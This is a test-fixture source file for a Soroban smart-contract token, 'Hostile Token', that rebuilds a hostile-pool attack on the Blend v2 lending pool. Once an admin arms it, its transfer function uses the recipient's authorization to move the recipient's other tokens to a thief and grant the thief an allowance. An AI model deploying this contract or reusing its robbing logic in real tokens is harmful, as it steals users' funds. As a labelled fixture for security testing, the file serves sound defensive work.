// Test fixture: a SEP-41 token whose admin can arm it to rob whoever receives it (issue 20's
// hostile-pool attack, rebuilt on the real Blend v2 pool: see spec.ts).
//
// Storage: instance `Admin` → Address, `Armed` → [thief, steal_token, steal_amount,
// approve_token, approve_amount]; persistent `[Balance, id]` → i128; temporary
// `[Allowance, from, spender]` → [amount, expiration_ledger].
import {
  expectAddress, extendInstanceTtl, extendTtl, fromU32, fromU64, get, has, I128, INSTANCE,
  invoke, ledgerSequence, PERSISTENT, publish, put, requireAuth, symbol as sym, TEMPORARY,
  toU32, valEq, vecGet, vecOf, VOID, vec2,
} from "../../../../contracts/sdk/index";
import { addT, stringCopy, stringOf, subT } from "../../../../contracts/sdk/ext";

// address_to_strkey (module `a`, function `2`): declared here so the SDK stays unchanged.
@external("a", "2") declare function address_to_strkey(address: u64): u64;

const DAY: u32 = 17280;
const BUMP: u32 = 120 * DAY;
const THRESHOLD: u32 = BUMP - DAY;
/** How long the allowance the armed transfer grants lives (ledgers). */
const APPROVE_LEDGERS: u32 = 10_000;

function kAdmin(): u64 { return sym("Admin"); }
function kArmed(): u64 { return sym("Armed"); }
function kBalance(id: u64): u64 { return vec2(sym("Balance"), id); }
function kAllowance(from: u64, spender: u64): u64 {
  const k: StaticArray<u64> = [sym("Allowance"), from, spender];
  return vecOf(k);
}

function bump(): void { extendInstanceTtl(THRESHOLD, BUMP); }

function readBalance(id: u64): I128 {
  const k = kBalance(id);
  if (!has(k, PERSISTENT)) return I128.zero();
  return I128.fromVal(get(k, PERSISTENT));
}

function writeBalance(id: u64, v: I128): void {
  const k = kBalance(id);
  put(k, v.toVal(), PERSISTENT);
  extendTtl(k, PERSISTENT, THRESHOLD, BUMP);
}

function move(from: u64, to: u64, a: I128): void {
  if (a.isNeg()) unreachable(); // negative amount
  const b = readBalance(from);
  if (b.lt(a)) unreachable(); // insufficient balance
  writeBalance(from, subT(b, a));
  writeBalance(to, addT(readBalance(to), a));
  const t: StaticArray<u64> = [sym("transfer"), from, to];
  publish(vecOf(t), a.toVal());
}

/** The allowance still in force (0 once expired or never set). */
function readAllowance(from: u64, spender: u64): I128 {
  const k = kAllowance(from, spender);
  if (!has(k, TEMPORARY)) return I128.zero();
  const v = get(k, TEMPORARY);
  if (toU32(vecGet(v, 1)) < ledgerSequence()) return I128.zero();
  return I128.fromVal(vecGet(v, 0));
}

function writeAllowance(from: u64, spender: u64, a: I128, expiration: u32): void {
  const seq = ledgerSequence();
  if (a.isNeg() || (a.isPos() && expiration < seq)) unreachable();
  const k = kAllowance(from, spender);
  put(k, vec2(a.toVal(), fromU32(expiration)), TEMPORARY);
  if (a.isPos()) extendTtl(k, TEMPORARY, expiration - seq, expiration - seq);
}

/**
 * Whether `id` is an account (a G strkey): the only recipients a transaction signature can be
 * made to authorize for, so the only ones worth robbing (a contract's own authorization can't be
 * forged from here, and asking for it would only fail the transaction).
 */
function isAccount(id: u64): bool {
  const s = address_to_strkey(id);
  const first = memory.data(1);
  stringCopy(s, first, 1);
  return load<u8>(first) == 71; // 'G'
}

/** Armed: rob the recipient `to` (an account) of steal_token and leave the thief an allowance. */
function rob(to: u64): void {
  if (!has(kArmed(), INSTANCE)) return;
  const arms = get(kArmed(), INSTANCE);
  const thief = vecGet(arms, 0);
  if (valEq(to, thief) || !isAccount(to)) return;
  const t: StaticArray<u64> = [to, thief, vecGet(arms, 2)];
  invoke(vecGet(arms, 1), "transfer", vecOf(t));
  const a: StaticArray<u64> = [to, thief, vecGet(arms, 4), fromU32(ledgerSequence() + APPROVE_LEDGERS)];
  invoke(vecGet(arms, 3), "approve", vecOf(a));
}

export function __constructor(admin: u64): u64 {
  put(kAdmin(), expectAddress(admin), INSTANCE);
  bump();
  return VOID;
}

export function mint(to: u64, amount: u64): u64 {
  requireAuth(get(kAdmin(), INSTANCE));
  const a = I128.fromVal(amount);
  if (a.isNeg()) unreachable();
  bump();
  writeBalance(expectAddress(to), addT(readBalance(to), a));
  const t: StaticArray<u64> = [sym("mint"), get(kAdmin(), INSTANCE), to];
  publish(vecOf(t), a.toVal());
  return VOID;
}

export function arm(
  thief: u64,
  steal_token: u64,
  steal_amount: u64,
  approve_token: u64,
  approve_amount: u64,
): u64 {
  requireAuth(get(kAdmin(), INSTANCE));
  const v: StaticArray<u64> = [
    expectAddress(thief), expectAddress(steal_token), I128.fromVal(steal_amount).toVal(),
    expectAddress(approve_token), I128.fromVal(approve_amount).toVal(),
  ];
  put(kArmed(), vecOf(v), INSTANCE);
  bump();
  return VOID;
}

export function allowance(from: u64, spender: u64): u64 {
  return readAllowance(expectAddress(from), expectAddress(spender)).toVal();
}

export function approve(from: u64, spender: u64, amount: u64, expiration_ledger: u64): u64 {
  requireAuth(from);
  expectAddress(spender);
  const a = I128.fromVal(amount);
  const exp = toU32(expiration_ledger);
  bump();
  writeAllowance(from, spender, a, exp);
  const t: StaticArray<u64> = [sym("approve"), from, spender];
  publish(vecOf(t), vec2(a.toVal(), fromU32(exp)));
  return VOID;
}

export function balance(id: u64): u64 {
  return readBalance(expectAddress(id)).toVal();
}

export function transfer(from: u64, to: u64, amount: u64): u64 {
  requireAuth(from);
  expectAddress(to);
  bump();
  move(from, to, I128.fromVal(amount));
  rob(to);
  return VOID;
}

export function transfer_from(spender: u64, from: u64, to: u64, amount: u64): u64 {
  requireAuth(spender);
  expectAddress(from);
  expectAddress(to);
  const a = I128.fromVal(amount);
  bump();
  const have = readAllowance(from, spender);
  if (have.lt(a)) unreachable(); // insufficient allowance
  if (a.isPos()) {
    const k = kAllowance(from, spender);
    writeAllowance(from, spender, subT(have, a), toU32(vecGet(get(k, TEMPORARY), 1)));
  }
  move(from, to, a);
  return VOID;
}

export function decimals(): u64 {
  return fromU32(7);
}

export function name(): u64 {
  return stringOf("Hostile Token");
}

export function symbol(): u64 {
  return stringOf("HOST");
}
